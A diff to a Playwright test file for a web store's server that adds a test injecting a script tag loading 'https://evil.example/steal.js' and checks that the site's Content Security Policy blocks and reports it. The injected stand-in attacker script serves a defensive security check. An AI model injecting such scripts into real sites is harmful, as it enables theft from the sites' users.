@@ -1,4 +1,4 @@
-import { expect, port, test } from './fixtures';
+import { expect, port, takeCspViolations, test } from './fixtures';
 
 /**
  * Issue 25, items 8, 14, 15 and 16 on real answers of the production server, read with Node's own
@@ -93,4 +93,18 @@ test('a 9 KB query gets an answer a Node client reads, with small headers', asyn
   const ok = await fetch(`${base}/search?q=${encodeURIComponent('notebook gamer')}`);
   expect(ok.status).toBe(200);
   expect(headerBytes(ok)).toBeLessThan(8192);
+});
+
+test("the store's pages refuse a script from an origin the store does not load", async ({
+  page,
+}) => {
+  await page.goto('/');
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/steal.js';
+    document.head.append(script);
+  });
+  await expect
+    .poll(() => takeCspViolations().join('\n'))
+    .toContain('https://evil.example/steal.js');
 });
